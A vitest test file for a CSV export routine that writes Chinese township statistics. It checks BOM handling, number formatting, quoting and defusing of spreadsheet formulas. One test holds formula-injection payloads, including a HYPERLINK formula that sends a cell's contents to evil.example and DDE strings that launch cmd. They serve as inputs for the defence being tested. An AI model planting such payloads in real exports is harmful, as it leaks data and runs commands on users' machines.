import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { looksLikeFormula, neutraliseFormula, tableToCsv, type CsvColumn, type CsvRow } from '../../../src/export/csv';

const BOM = Papa.BYTE_ORDER_MARK;

const COLUMNS: CsvColumn[] = [
  { key: 'name', label: '乡镇' },
  { key: 'value', label: '数值' },
  { key: 'mark', label: '标记' },
  { key: 'quote', label: '原文' },
];

/** Parse our CSV back the way a careful importer would: BOM stripped, no type guessing. */
function parseBack(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(BOM.length), { header: false, skipEmptyLines: false });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** The physical CSV lines of the body (safe here: the fixtures below hold no line breaks). */
function lines(csv: string): string[] {
  return csv.slice(BOM.length).split('\r\n');
}

describe('tableToCsv', () => {
  it('starts with the UTF-8 byte-order mark so Excel and WPS read Chinese', () => {
    const csv = tableToCsv(COLUMNS, [{ name: '碧土乡', value: 70, mark: '≥', quote: '宣讲活动70余场次' }]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(lines(csv)[0]).toBe('乡镇,数值,标记,原文');
  });

  it('can leave the BOM out on request', () => {
    const csv = tableToCsv(COLUMNS.slice(0, 1), [{ name: '达果乡' }], { bom: false });
    expect(csv).toBe('乡镇\r\n达果乡');
  });

  it('writes numbers unquoted as numbers, negatives and decimals intact', () => {
    const rows: CsvRow[] = [
      { name: '甲乡', value: -3, mark: '', quote: '' },
      { name: '乙乡', value: 94.4, mark: '', quote: '' },
      { name: '丙乡', value: -0.5, mark: '', quote: '' },
      { name: '丁乡', value: 2153, mark: '≥', quote: '' },
    ];
    const body = lines(tableToCsv(COLUMNS, rows)).slice(1);
    expect(body.map((line) => line.split(',')[1])).toEqual(['-3', '94.4', '-0.5', '2153']);
    // Not neutralised: a negative number must stay a number in the spreadsheet.
    expect(body.join('\n')).not.toContain("'-");
  });

  it('neutralises every formula trigger in string cells, headers included', () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
      '+cmd|\' /C calc\'!A0',
      '-1+1',
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '\t=1+1',
      '\r=1+1',
    ];
    const rows: CsvRow[] = payloads.map((payload, index) => ({
      name: `${payload}`,
      value: index,
      mark: '',
      quote: `引文${payload}`,
    }));
    const columns: CsvColumn[] = [...COLUMNS, { key: 'name', label: '=1+2' }];
    const data = parseBack(tableToCsv(columns, rows));
    expect(data[0]?.[4]).toBe("'=1+2");
    payloads.forEach((payload, index) => {
      const row = data[index + 1];
      expect(row?.[0]).toBe(`'${payload}`);
      // A cell that only contains a trigger later on is left alone.
      expect(row?.[3]).toBe(`引文${payload}`);
      expect(row?.[1]).toBe(String(index));
    });
  });

  it('neutralises a formula hidden behind leading blanks', () => {
    expect(neutraliseFormula('  =1+1')).toBe("'  =1+1");
    expect(neutraliseFormula('\n@A1')).toBe("'\n@A1");
    expect(looksLikeFormula('  塔尔玛乡')).toBe(false);
    expect(looksLikeFormula('塔尔玛乡=1')).toBe(false);
    expect(looksLikeFormula('')).toBe(false);
  });

  it('neutralises numeric-looking strings but never real numbers', () => {
    const data = parseBack(tableToCsv(COLUMNS, [{ name: '-3', value: -3, mark: '', quote: '+5' }]));
    expect(data[1]).toEqual(["'-3", '-3', '', "'+5"]);
  });

  it('quotes cells with commas, quotes and line breaks, and round-trips them', () => {
    const tricky = {
      name: '哲古镇, "措美县"',
      value: 100,
      mark: '≥',
      quote: '第一行\r\n第二行，含“中文引号”和"英文引号"\n第三行',
    };
    const csv = tableToCsv(COLUMNS, [tricky]);
    expect(csv).toContain('"哲古镇, ""措美县"""');
    const data = parseBack(csv);
    expect(data).toEqual([
      ['乡镇', '数值', '标记', '原文'],
      [tricky.name, '100', '≥', tricky.quote],
    ]);
  });

  it('round-trips Chinese text and keeps the bound mark out of the number column', () => {
    const rows: CsvRow[] = [
      { name: '塔尔玛乡', value: 6403, mark: '≥', quote: '受教群众达2153余人' },
      { name: '海子沟乡', value: null, mark: '未报告', quote: null },
    ];
    const data = parseBack(tableToCsv(COLUMNS, rows));
    expect(data[1]).toEqual(['塔尔玛乡', '6403', '≥', '受教群众达2153余人']);
    expect(data[2]).toEqual(['海子沟乡', '', '未报告', '']);
    expect(Number(data[1]?.[1])).toBe(6403);
  });

  it('writes missing cells as the caller chooses', () => {
    const rows: CsvRow[] = [{ name: '海子沟乡', value: null, mark: undefined, quote: Number.NaN as unknown as null }];
    expect(lines(tableToCsv(COLUMNS, rows))[1]).toBe('海子沟乡,,,');
    expect(lines(tableToCsv(COLUMNS, rows, { missing: '未报告' }))[1]).toBe('海子沟乡,未报告,未报告,未报告');
    expect(lines(tableToCsv(COLUMNS, [{ name: '乙', value: Number.NaN }], { missing: '未报告' }))[1]).toBe(
      '乙,未报告,未报告,未报告',
    );
  });

  it('never lets a missing marker become a formula', () => {
    expect(lines(tableToCsv(COLUMNS.slice(0, 2), [{ name: '甲' }], { missing: '-' }))[1]).toBe("甲,'-");
  });

  it('writes only the columns asked for, in their order', () => {
    const columns: CsvColumn[] = [
      { key: 'value', label: '数值' },
      { key: 'name', label: '乡镇' },
    ];
    const csv = tableToCsv(columns, [{ name: '达果乡', value: 12, extra: '不导出' }]);
    expect(lines(csv)).toEqual(['数值,乡镇', '12,达果乡']);
  });
});
